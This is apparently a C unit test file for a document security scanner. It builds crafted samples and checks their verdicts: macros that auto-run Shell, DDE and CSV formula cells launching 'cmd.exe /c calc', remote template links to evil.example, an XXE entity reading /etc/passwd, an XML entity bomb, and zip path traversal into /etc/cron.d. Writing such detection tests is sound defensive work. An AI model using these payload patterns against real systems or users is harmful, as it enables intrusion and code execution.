/* security.scan on files made for it: each way to do harm is found under its code, and what looks
 * like one of them is not. */
#include "document/charset.h"
#include "document/ooxml_crypt.h"
#include "security/scan.h"
#include "archive/archive_maker.h"
#include "ole_maker.h"
#include "step_runner.h"

static Arena *arena;

static bool has_code(const StepRun *r, const char *code)
{
    json_each(item, json_get(r->data, "codes"))
        if (str_eq_c(json_text(item), code))
            return true;
    return false;
}

static StepRun scan(const char *name, Str bytes)
{
    StepRun r = step_runner_do(&step_security_scan, "{\"clamav\":\"off\"}", name, bytes);
    assert_ok(r.code, &r.err);
    assert_int_equal(r.leaked_fds, 0);
    return r;
}

static void expect(const char *name, Str bytes, const char *verdict, const char *code)
{
    StepRun r = scan(name, bytes);
    Str got = json_text(json_get(r.data, "verdict"));
    if (!str_eq_c(got, verdict) || (code != NULL && !has_code(&r, code))) {
        Buf b = buf_init(arena, 64 * KIB);
        JsonOut j = json_out(&b);
        json_put(&j, json_get(r.data, "findings"));
        fail_msg("%s: " STR_FMT ", want %s with %s: %s", name, STR_ARG(got), verdict,
                 code != NULL ? code : "anything", buf_c(&b));
    }
    step_runner_free(&r);
}

static Str zip_of(const char *name, Str bytes)
{
    const Made one[] = {{.name = name, .content = bytes}};
    return make_zip(arena, one, 1);
}

/* A docx with one more part. */
static Str docx_with(const char *name, Str bytes)
{
    const Made parts[] = {{.name = "[Content_Types].xml", .content = STR("<Types/>")},
                          {.name = "word/document.xml", .content = STR("<w:document/>")},
                          {.name = name, .content = bytes}};
    return make_zip(arena, parts, 3);
}

static Str pe_program(void)
{
    char *b = arena_new(arena, char, 512);
    memcpy(b, "MZ", 2);
    b[0x3c] = (char)0x80;
    memcpy(b + 0x80, "PE\0\0\x64\x86", 6);
    return (Str){b, 512};
}

static Str pdf_with(const char *catalog, const char *more)
{
    return str_printf(arena,
                      "%%PDF-1.4\n1 0 obj\n<</Type/Catalog/Pages 2 0 R%s>>\nendobj\n"
                      "2 0 obj\n<</Type/Pages/Count 1/Kids[3 0 R]>>\nendobj\n"
                      "3 0 obj\n<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>\nendobj\n%s"
                      "trailer\n<</Root 1 0 R/Size 9>>\n%%%%EOF\n",
                      catalog, more);
}

TEST(eicar_and_programs)
{
    Str eicar = eicar_bytes(arena), program = pe_program();
    expect("eicar.com", eicar, "malicious", "eicar");
    expect("a.zip", zip_of("b.zip", zip_of("eicar.com", eicar)), "malicious", "eicar");
    expect("setup.exe", program, "suspicious", "program");
    expect("a.zip", zip_of("setup.exe", program), "suspicious", "program_in_archive");
    expect("a.docx", docx_with("word/media/image1.png", program), "malicious",
           "program_in_document");
    expect("report.pdf", program, "malicious", "program_disguised");
    expect("a.zip", zip_of("invoice.pdf.exe", STR("x")), "malicious", "name_double");
    expect("a.zip",
           zip_of("exe.\xe2\x80\xae"
                  "fdp.scr",
                  STR("x")),
           "malicious", "name_reversed");
    expect("a.zip", zip_of("run.ps1", STR("Get-Date")), "suspicious", "script_file");
    expect("plain.txt", STR("MZ is how programs begin"), "clean", NULL);
    expect("a.zip", zip_of("v1.2.txt", STR("hello")), "clean", NULL);
}

TEST(macros)
{
    Str quiet = make_vba(arena, "Sub Tidy()\nEnd Sub\n"),
        greets = make_vba(arena, "Sub AutoOpen()\nMsgBox \"hello\"\nEnd Sub\n"),
        runs = make_vba(arena, "Sub AutoOpen()\nShell \"notepad.exe\"\nEnd Sub\n"),
        empty = make_vba(arena, "");
    expect("a.docm", docx_with("word/vbaProject.bin", quiet), "suspicious", "macros");
    expect("a.docm", docx_with("word/vbaProject.bin", greets), "suspicious", "macro_auto");
    expect("a.docm", docx_with("word/vbaProject.bin", runs), "malicious", "macro_runs");
    expect("a.docx", docx_with("word/vbaProject.bin", quiet), "malicious", "macros_hidden");
    expect("a.docm", docx_with("word/vbaProject.bin", empty), "clean", NULL);
}

/* The project's directory is gone: the modules are found by how they begin. */
TEST(macros_without_a_directory)
{
    /* 0x00 "Attribut" is how the first group of a module looks when it is packed. */
    Str module = pack_vba(
        arena, STR("Attribute VB_Name = \"M\"\r\nSub AutoOpen()\r\nShell \"x\"\r\nEnd Sub\r\n"));
    OleMade in[] = {{"VBA", NULL, {0}, true},
                    {"dir", "VBA", STR("broken"), false},
                    {"M", "VBA", module, false}};
    expect("a.doc", make_ole(arena, in, COUNT_OF(in)), "malicious", "macro_runs");
    OleMade none[] = {{"VBA", NULL, {0}, true}, {"dir", "VBA", STR("broken"), false}};
    expect("a.doc", make_ole(arena, none, COUNT_OF(none)), "suspicious", "macros_damaged");
}

static Str package(const char *name, Str file)
{
    Buf b = buf_init(arena, MIB);
    put32(&b, 0);
    put16(&b, 2);
    for (int i = 0; i < 2; i++) {
        buf_add_c(&b, name);
        buf_add_char(&b, 0);
    }
    put32(&b, 0x00030000);
    put32(&b, (uint32_t)strlen(name) + 1);
    buf_add_c(&b, name);
    buf_add_char(&b, 0);
    put32(&b, (uint32_t)file.len);
    buf_add(&b, file);
    return buf_str(&b);
}

TEST(objects_in_documents)
{
    OleMade text[] = {{"\1Ole10Native", NULL, package("C:\\notes.txt", STR("just text")), false}};
    OleMade program[] = {{"\1Ole10Native", NULL, package("C:\\a.exe", pe_program()), false}};
    OleMade equation[] = {{"Equation Native", NULL, STR("....cmd.exe /c calc"), false}};
    OleMade old[] = {{"Equation Native", NULL, STR("...x=y..."), false}};
    expect("a.docx", docx_with("word/embeddings/o.bin", make_ole(arena, text, 1)), "suspicious",
           "ole_package");
    expect("a.docx", docx_with("word/embeddings/o.bin", make_ole(arena, program, 1)), "malicious",
           "program_in_document");
    expect("a.doc", make_ole(arena, equation, 1), "malicious", "equation");
    expect("a.doc", make_ole(arena, old, 1), "clean", "equation_old");
}

#define REL(type, target)                                                                          \
    STR("<Relationships><Relationship Id=\"r\" Type=\"http://x/" type "\" Target=\"" target        \
        "\" TargetMode=\"External\"/></Relationships>")

TEST(what_office_loads_from_elsewhere)
{
    static const char rels[] = "word/_rels/settings.xml.rels";
    expect("a.docx", docx_with(rels, REL("attachedTemplate", "https://evil.example/t.dotm")),
           "malicious", "template_remote");
    expect("a.docx", docx_with(rels, REL("attachedTemplate", "file:///C:/Normal.dotm")), "clean",
           NULL);
    expect("a.docx", docx_with(rels, REL("oleObject", "mhtml:https://e.example/x.html!x-usc:y")),
           "malicious", "external_object");
    expect("a.docx", docx_with(rels, REL("frame", "http://e.example/")), "malicious",
           "external_object");
    expect("a.docx", docx_with(rels, REL("image", "http://e.example/a.png")), "clean",
           "external_picture");
    expect("a.docx", docx_with(rels, REL("hyperlink", "https://example.org/")), "clean", NULL);
}

TEST(fields_and_cells_that_start_programs)
{
    static const char split[] =
        "<w:p><w:fldChar w:fldCharType=\"begin\"/><w:instrText>DDE</w:instrText><w:r/>"
        "<w:instrText xml:space=\"preserve\">AUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k "
        "calc&quot;</w:instrText>"
        "<w:fldChar w:fldCharType=\"end\"/></w:p>";
    expect("a.docx", docx_with("word/footer1.xml", str_from_c(split)), "malicious", "dde_command");
    expect("a.docx",
           docx_with("word/header1.xml", STR("<w:fldSimple w:instr=\"DDE Excel Sheet1 R1C1\"/>")),
           "suspicious", "dde");
    expect("a.docx", docx_with("word/header1.xml", STR("<w:instrText>PAGE</w:instrText>")), "clean",
           NULL);
    expect("a.csv", STR("a,b\n=cmd|'/c calc'!A0,1\n"), "malicious", "cell_command");
    expect("a.csv", STR("a|b\n=1+2|3\n"), "clean", NULL);
    expect("a.xlsx",
           docx_with("xl/externalLinks/externalLink1.xml",
                     STR("<ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/>")),
           "malicious", "dde_command");
    expect("a.xlsm", docx_with("xl/macrosheets/sheet1.xml", STR("<f>EXEC(\"calc\")</f>")),
           "malicious", "xlm_runs");
}

TEST(rtf_objects)
{
    static const char update[] =
        "{\\rtf1{\\object\\objocx\\objupdate{\\*\\objdata 0105000002000000"
        "0b0000004571756174696f6e2e3300000000000000000004000000 41424344}}}";
    static const char odd[] = "{\\rt{\\object{\\*\\obj}{\\*\\template http://e.example/x.dotm}}}";
    static const char field[] =
        "{\\rtf1{\\field{\\*\\fldinst{DDEAUTO c:\\\\x\\\\cmd.exe \"/c calc\"}}}}";
    expect("a.rtf", str_from_c(update), "malicious", "equation");
    expect("a.rtf", str_from_c(update), "malicious", "object_update");
    expect("a.rtf", str_from_c(odd), "malicious", "template_remote");
    expect("a.rtf", str_from_c(odd), "malicious", "rtf_broken_head");
    expect("a.rtf", str_from_c(field), "malicious", "dde_command");
    expect("a.rtf", STR("{\\rtf1 Plain \\b text\\b0.}"), "clean", NULL);
}

TEST(pdf_actions)
{
    expect("a.pdf", pdf_with("/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>", ""), "suspicious",
           "pdf_javascript_auto");
    expect("a.pdf", pdf_with("", "4 0 obj\n<</S/J#61vaScript/JS(x)>>\nendobj\n"), "suspicious",
           "pdf_hidden_names");
    expect("a.pdf", pdf_with("", "4 0 obj\n<</S/JavaScript/JS(Collab.getIcon\\(x\\))>>\nendobj\n"),
           "malicious", "pdf_exploit");
    expect("a.pdf", pdf_with("/OpenAction<</S/Launch/F(cmd.exe)>>", ""), "malicious", "pdf_launch");
    expect("a.pdf", pdf_with("", "4 0 obj\n<</S/URI/URI(http://e.example/setup.exe)>>\nendobj\n"),
           "suspicious", "pdf_uri_program");
    expect("a.pdf", pdf_with("", "4 0 obj\n<</S/URI/URI(https://example.org/)>>\nendobj\n"),
           "clean", NULL);
    expect(
        "a.pdf",
        pdf_with("/AA<</WC 4 0 R>>", "4 0 obj\n<</S/SubmitForm/F(http://e.example/)>>\nendobj\n"),
        "clean", "pdf_submit");
}

TEST(markup_and_xml)
{
    static const char bomb[] =
        "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b \"x\"><!ENTITY c \"&b;&b;\">"
        "<!ENTITY d \"&c;&c;\"><!ENTITY e \"&d;&d;\">]><a>&e;</a>";
    expect("a.xml", str_from_c(bomb), "malicious", "xml_bomb");
    expect("a.xml",
           STR("<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM "
               "\"file:///etc/passwd\">]><a>&x;</a>"),
           "suspicious", "xml_external");
    expect("a.xml",
           STR("<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY nbsp \"&#160;\">]><a>&nbsp;</a>"),
           "clean", NULL);
    expect("a.svg",
           STR("<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>"),
           "suspicious", "svg_script");
    expect("a.svg", STR("<svg xmlns=\"http://www.w3.org/2000/svg\"><rect/></svg>"), "clean", NULL);
    expect("a.html", STR("<!DOCTYPE html><html><script>new WScript.Shell</script></html>"),
           "malicious", "html_command");
    expect("a.html", STR("<!DOCTYPE html><html><script>var a;</script></html>"), "clean",
           "html_script");
}

TEST(shapes)
{
    Str zip = zip_of("a.txt", STR("hello"));
    Str gif = str_printf(arena, "GIF89a......" STR_FMT, 0, "");
    Buf both = buf_init(arena, MIB);
    buf_add(&both, gif);
    buf_add(&both, zip);
    expect("a.gif", buf_str(&both), "suspicious", "polyglot");
    expect("a.zip", zip_of("../../etc/cron.d/x", STR("y")), "malicious", "path_escape");
    Str deep = STR("text");
    for (int i = 0; i < SCAN_DEPTH_MAX + 2; i++)
        deep = zip_of("a.zip", deep);
    expect("a.zip", deep, "suspicious", "nested_deep");
    const Made secret[] = {{.name = "a.txt", .content = STR("x")}};
    expect("a.zip", make_archive(arena, "zip", "none", "infected", secret, 1), "suspicious",
           "password_known");
    expect("a.zip", make_archive(arena, "zip", "none", "qwertz-8472", secret, 1), "clean",
           "encrypted");
}

TEST(mail_is_unpacked)
{
    Str mail = str_printf(
        arena,
        "From: a@example.org\r\nTo: b@example.org\r\nSubject: x\r\nMIME-Version: 1.0\r\n"
        "Content-Type: multipart/mixed; boundary=q\r\n\r\n--q\r\nContent-Type: "
        "text/plain\r\n\r\nhi\r\n"
        "--q\r\nContent-Type: application/octet-stream\r\n"
        "Content-Disposition: attachment; filename=\"invoice.pdf.js\"\r\n\r\nvar a;\r\n--q--\r\n");
    expect("a.eml", mail, "malicious", "name_double");
}

TEST(survives_every_failure)
{
    step_runner_every_failure(
        &step_security_scan, "{\"clamav\":\"off\"}", "a.docm",
        docx_with("word/vbaProject.bin", make_vba(arena, "Sub AutoOpen()\nEnd Sub\n")));
}

static int begin(void **state)
{
    (void)state;
    Err err = {0};
    arena = arena_open(1024 * MIB);
    assert_ok(charset_warm(&err), &err);
    assert_ok(ooxml_crypt_warm(&err), &err);
    assert_ok(mail_warm(&err), &err);
    return arena == NULL;
}

static int end(void **state)
{
    (void)state;
    arena_close(&arena);
    return 0;
}

int main(void)
{
    const struct CMUnitTest tests[] = {TEST_ENTRY(eicar_and_programs),
                                       TEST_ENTRY(macros),
                                       TEST_ENTRY(macros_without_a_directory),
                                       TEST_ENTRY(objects_in_documents),
                                       TEST_ENTRY(what_office_loads_from_elsewhere),
                                       TEST_ENTRY(fields_and_cells_that_start_programs),
                                       TEST_ENTRY(rtf_objects),
                                       TEST_ENTRY(pdf_actions),
                                       TEST_ENTRY(markup_and_xml),
                                       TEST_ENTRY(shapes),
                                       TEST_ENTRY(mail_is_unpacked),
                                       TEST_ENTRY(survives_every_failure)};
    return cmocka_run_group_tests(tests, begin, end);
}
